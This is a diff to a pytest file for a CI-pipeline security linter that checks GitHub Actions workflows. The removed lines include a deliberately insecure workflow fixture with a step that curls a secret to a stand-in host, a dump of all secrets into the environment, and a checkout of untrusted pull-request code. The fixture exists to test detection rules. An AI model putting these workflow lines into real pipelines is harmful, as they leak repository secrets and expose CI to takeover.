@@ -10,27 +10,25 @@ import pytest
 from linter.checks import CHECKS, Verdict
 from linter.checks.pipelines_pins import ADVISORIES, version
 from linter.checks.pipelines_taint import ATTACKER, OPEN, SAFE, of_context
-from linter.engine.judge import judge as judge_all
 from linter.model import Estate
 from tests.parsers.test_pipelines import read, written
-from tests.support import PACK
 
 
 def judge(
-    name: str, files: dict[str, str] | str, paths: tuple[str, ...] = (), settings: Any = None
+    name: str, files: dict[str, str] | str, paths: tuple[str, ...] = (), settings: Any = None, **given: Any
 ) -> list[tuple[str, str]]:
     """(outcome, text at the place) of every judgement but passes; ("pass", "") if all of at least one passed."""
     estate = read(files)
     estate.paths = frozenset((*estate.paths, *paths))
     estate.settings = settings or {}
-    verdicts = verdicts_of(name, estate)
+    verdicts = verdicts_of(name, estate, **given)
     shown = [(each.outcome, written(estate, each.span)) for each in verdicts if each.outcome != "pass"]
     return shown or ([("pass", "")] if verdicts else [])
 
 
-def verdicts_of(name: str, estate: Estate) -> list[Verdict]:
+def verdicts_of(name: str, estate: Estate, **given: Any) -> list[Verdict]:
     module, _, function = CHECKS[name].partition(":")
-    return list(getattr(import_module(module), function)(estate))
+    return list(getattr(import_module(module), function)(estate, **given))
 
 
 def job(steps: str, on: str = "push", head: str = "") -> str:
@@ -161,8 +159,11 @@ def test_bot_conditions(condition: str, outcome: str) -> None:
 
 PERMISSIONS = [
     ("on: push\npermissions: {}\njobs: {a: {steps: []}}", []),
-    ("on: push\njobs: {a: {steps: []}}", ["a"]),
-    ("on: push\njobs: {a: {steps: []}, b: {steps: []}}", ["a", "b"]),
+    ("on: push\njobs: {a: {steps: []}}", ["on"]),
+    ("name: ci\non: push\njobs: {a: {steps: []}, b: {steps: []}}", ["ci"]),
+    ("on: push\njobs: {a: {steps: []}, b: {steps: []}, c: {permissions: {}}}", ["a", "b"]),
+    ("on: push\njobs: {a: {uses: ./x.yml}}", ["a"]),
+    ("on: push\njobs: {a: {steps: []}, b: {uses: ./x.yml}}", ["on", "b"]),
     ("on: push\njobs: {a: {permissions: {}}, b: {permissions: {contents: write}}}", []),
     ("on: workflow_call\njobs: {a: {steps: []}, b: {uses: ./x.yml}}", ["b"]),
 ]
@@ -184,7 +185,9 @@ def test_missing_permissions(text: str, places: list[str]) -> None:
     ],
 )
 def test_broad_permissions(text: str, places: list[str]) -> None:
-    assert judge("no_broad_permissions", text) == ([("fail", place) for place in places] or [("pass", "")])
+    found = [judge("no_broad_permissions", text, everything=everything) for everything in (True, False)]
+    failing = [each for each in (*found[0], *found[1]) if each[0] != "pass"]
+    assert sorted(failing) == sorted(("fail", place) for place in places)
 
 
 @pytest.mark.parametrize(
@@ -289,45 +292,3 @@ def test_no_check_crashes_on_malformed_workflows(name: str, text: str) -> None:
     for verdict in verdicts_of(name, estate):
         assert verdict.outcome in ("pass", "fail", "unknown")
         assert (verdict.outcome == "unknown") == bool(verdict.unknowns)
-
-
-GENERAL = ("pipelines_delivery", "pipelines_quality", "pipelines_infrastructure")
-"""Modules whose checks ask every system."""
-
-ILL = f"""\
-on: [pull_request_target, pull_request]
-permissions: write-all
-jobs:
-  a:
-    runs-on: [self-hosted]
-    permissions: {{id-token: write}}
-    container: node
-    env: {{ACTIONS_ALLOW_UNSECURE_COMMANDS: true, AWS_SECRET_ACCESS_KEY: '${{{{ secrets.K }}}}'}}
-    if: github.actor == 'dependabot[bot]'
-    steps:
-      - uses: actions/checkout@main
-        with: {{ref: '${{{{ github.head_ref }}}}'}}
-      - uses: tj-actions/changed-files@v40
-      - run: echo {TITLE} ${{{{ toJSON(secrets) }}}} ${{{{ x + y }}}} >> $GITHUB_ENV
-      - run: npm publish && curl http://a.b/ -d ${{{{ secrets.A }}}}
-  b: {{uses: a/b/.github/workflows/c.yml@v1, secrets: inherit}}
-"""
-
-
-@pytest.mark.parametrize(("platform", "some"), [("github", True), ("gitlab", False)])
-def test_rules_of_github_ask_no_other_system(platform: str, some: bool) -> None:
-    estate = read(ILL)
-    for pipeline in estate.of_kind("pipeline/pipeline"):
-        pipeline.body["platform"] = platform
-    rules = [PACK.rule(id) for id in PACK.ids if id.startswith("gha-")]
-    of_github = [
-        rule
-        for rule in rules
-        if not any(module in CHECKS.get(variant.check, "") for variant in rule.variants for module in GENERAL)
-    ]
-    crashes: list[tuple[str, str]] = []
-    judged = judge_all(
-        estate, of_github, evidence=False, progress=lambda _: None, crashed=lambda *crash: crashes.append(crash)
-    )
-    assert not crashes
-    assert len({each.rule for each in judged if each.outcome == "fail"}) > 15 if some else not judged
